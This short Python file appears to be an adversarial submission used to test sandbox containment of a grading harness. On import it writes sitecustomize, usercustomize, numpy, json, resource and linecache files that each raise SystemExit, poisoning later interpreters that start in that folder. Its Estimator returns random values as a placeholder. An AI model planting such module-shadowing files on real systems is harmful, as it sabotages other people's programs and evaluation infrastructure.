"""Leaves sitecustomize, numpy and json modules in its own folder, for the next interpreter that starts there.

Contained from tier 0.
"""

for name in ("sitecustomize", "usercustomize", "numpy", "json", "resource", "linecache"):
    with open(f"{name}.py", "w") as file:
        file.write("raise SystemExit('poisoned')\n")


def Estimator(previous, observation, control, constants, rng):
    return rng.uniform(0.0, constants.L, (500, 6))
